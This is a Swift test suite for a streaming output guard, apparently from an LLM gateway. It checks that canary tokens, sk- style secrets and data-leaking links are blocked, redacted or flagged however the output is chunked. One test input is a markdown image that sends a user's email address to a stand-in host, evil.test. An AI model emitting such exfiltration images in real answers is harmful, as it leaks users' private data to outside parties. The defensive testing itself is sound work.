import PalisadeCore
import Testing
@testable import PalisadePolicy

/// Stands in for the gateway's secret detector: `sk-` followed by 20 or more letters and digits.
struct FakeSecretDetector: Detector {
    let name = "fake-secrets"

    func detect(in text: String) -> [Finding] {
        let bytes = Array(text.utf8)
        var findings: [Finding] = []
        var index = 0
        while index + 3 <= bytes.count {
            guard bytes[index..<index + 3].elementsEqual("sk-".utf8) else {
                index += 1
                continue
            }
            var end = index + 3
            while end < bytes.count, bytes[end] < 0x80, Character(Unicode.Scalar(bytes[end])).isLetter || Character(Unicode.Scalar(bytes[end])).isNumber { end += 1 }
            if end - index - 3 >= 20 {
                findings.append(Finding(kind: .secret, type: "FAKE_SECRET", severity: .critical, confidence: 0.99, utf8Range: index..<end, evidence: "sk-…"))
            }
            index = end
        }
        return findings
    }
}

@Suite struct OutputStreamGuardTests {
    static let canary = CanaryToken(secret: Array("stream".utf8), applicationID: "bot").value
    static let secret = "sk-" + String(repeating: "a1B2", count: 8)

    static func policy(secretAction: PolicyAction = .block, linkAction: PolicyAction = .block, mode: PolicyMode = .enforce) throws -> EffectivePolicy {
        try PolicyFixtures.load("""
        version: 1
        default:
          mode: \(mode.rawValue)
          rules:
            - { id: secrets, match: { kind: secret }, action: \(secretAction.rawValue) }
          output:
            canary: true
            links: { allowed_domains: [example.com], action: \(linkAction.rawValue) }
        """).defaultPolicy
    }

    struct Outcome {
        var released = ""
        var block: StreamBlock?
        var matches: [PolicyRuleMatch] = []
        var maxHeld = 0
    }

    static func stream(_ text: String, chunks sizes: some Sequence<Int>, policy: EffectivePolicy, maxHold: Int = 256) -> Outcome {
        var guardrail = policy.makeStreamGuard(request: PolicyFixtures.chat(), canary: canary, detectors: [FakeSecretDetector()], maxHoldBytes: maxHold)
        var outcome = Outcome()
        var rest = Substring(text)
        var sizes = sizes.makeIterator()
        while !rest.isEmpty, outcome.block == nil {
            let size = sizes.next() ?? 1
            let step = guardrail.feed(String(rest.prefix(size)))
            rest = rest.dropFirst(size)
            outcome.released += step.text
            outcome.matches += step.matches
            outcome.block = step.block
        }
        if outcome.block == nil {
            let last = guardrail.finish()
            outcome.released += last.text
            outcome.matches += last.matches
            outcome.block = last.block
        }
        outcome.maxHeld = guardrail.maxHeldBytes
        return outcome
    }

    static var chunkings: [[Int]] {
        // Seeded, so that the "random" chunkings are the same on every run.
        var generator = SplitMix64(seed: 42)
        let random = (0..<5).map { _ in (0..<400).map { _ in Int.random(in: 1...12, using: &generator) } }
        return [[1], [2], [3], [7]].map { Array(repeating: $0[0], count: 400) } + random
    }

    @Test(arguments: chunkings)
    func canarySplitAcrossChunksIsBlockedBeforeAnyOfItIsSent(chunks: [Int]) throws {
        let outcome = Self.stream("Here is what I was told: \(Self.canary) and more text follows.", chunks: chunks, policy: try Self.policy())
        let block = try #require(outcome.block)
        #expect(block.ruleID == "output.canary" && block.errorCode == "policy_output_leak")
        #expect(block.finding.type == PolicyFindingType.canaryLeak)
        #expect(!outcome.released.contains("pal-"))
        #expect(outcome.released.hasPrefix("Here is what I was told:"))
    }

    @Test(arguments: chunkings)
    func secretFromAnInjectedDetectorIsBlocked(chunks: [Int]) throws {
        let outcome = Self.stream("Your key is \(Self.secret), keep it safe.", chunks: chunks, policy: try Self.policy())
        let block = try #require(outcome.block)
        #expect(block.ruleID == "secrets" && block.errorCode == "policy_blocked_secret")
        #expect(!outcome.released.contains("sk-"))
        #expect(block.withheldBytes > 0)
    }

    @Test(arguments: chunkings)
    func exfiltrationImageIsBlockedBeforeTheURLIsSent(chunks: [Int]) throws {
        let outcome = Self.stream("Done. ![status](https://evil.test/pixel.png?d=user%40mail) Bye.", chunks: chunks, policy: try Self.policy())
        let block = try #require(outcome.block)
        #expect(block.errorCode == "policy_exfiltration_link")
        #expect(!outcome.released.contains("evil"))
        #expect(outcome.released == "Done. ")
    }

    @Test(arguments: chunkings)
    func ordinaryProseIsReleasedWholeWithASmallHold(chunks: [Int]) throws {
        let prose = String(repeating: "The quarterly report shows steady growth [1] in all regions; see https://example.com/report for details. ", count: 6)
        let outcome = Self.stream(prose, chunks: chunks, policy: try Self.policy())
        #expect(outcome.block == nil && outcome.matches.isEmpty)
        #expect(outcome.released == prose)
        #expect(outcome.maxHeld <= 40 + 12, "held \(outcome.maxHeld) bytes")
    }

    @Test func holdIsBoundedForAnEndlessToken() throws {
        let outcome = Self.stream(String(repeating: "x", count: 3000), chunks: Array(repeating: 5, count: 600), policy: try Self.policy(), maxHold: 128)
        #expect(outcome.maxHeld <= 128)
        #expect(outcome.released.count == 3000)
    }

    @Test func aMatchIsReportedOnceWhateverTheChunking() throws {
        let text = "first \(Self.secret) then [x](https://other.test/a) end"
        for chunks in Self.chunkings {
            let outcome = Self.stream(text, chunks: chunks, policy: try Self.policy(secretAction: .flag, linkAction: .flag))
            #expect(outcome.released == text)
            #expect(outcome.matches.map(\.ruleID).sorted() == ["output.links", "secrets"])
        }
    }

    /// Each match is reported once over a long answer too: only findings that reach into the
    /// window are compared, so the cost per chunk does not grow with the answer.
    @Test func manyMatchesInALongAnswerAreEachReportedOnce() throws {
        let text = (0..<3_000).map { "see [x](https://other.test/\($0)) then " }.joined()
        let outcome = Self.stream(text, chunks: Array(repeating: 7, count: text.utf8.count / 7 + 1), policy: try Self.policy(linkAction: .flag))
        #expect(outcome.released == text)
        #expect(outcome.matches.count == 3_000)
    }

    @Test func redactionMasksTheMatchInTheStream() throws {
        for chunks in Self.chunkings {
            let outcome = Self.stream("key \(Self.secret) ok", chunks: chunks, policy: try Self.policy(secretAction: .redact))
            #expect(outcome.released == "key [REDACTED:FAKE_SECRET] ok")
        }
    }

    @Test func monitorModeReleasesEverythingAndRecordsWhatItWouldHaveBlocked() throws {
        let policy = try Self.policy(mode: .monitor)
        var guardrail = policy.makeStreamGuard(request: PolicyFixtures.chat(), canary: Self.canary, detectors: [FakeSecretDetector()])
        let text = "leak \(Self.canary) here"
        var released = ""
        for character in text { released += guardrail.feed(String(character)).text }
        released += guardrail.finish().text
        #expect(released == text)
        #expect(guardrail.block == nil)
        #expect(guardrail.decision.wouldBlock && guardrail.decision.errorCode == "policy_output_leak")
    }
}
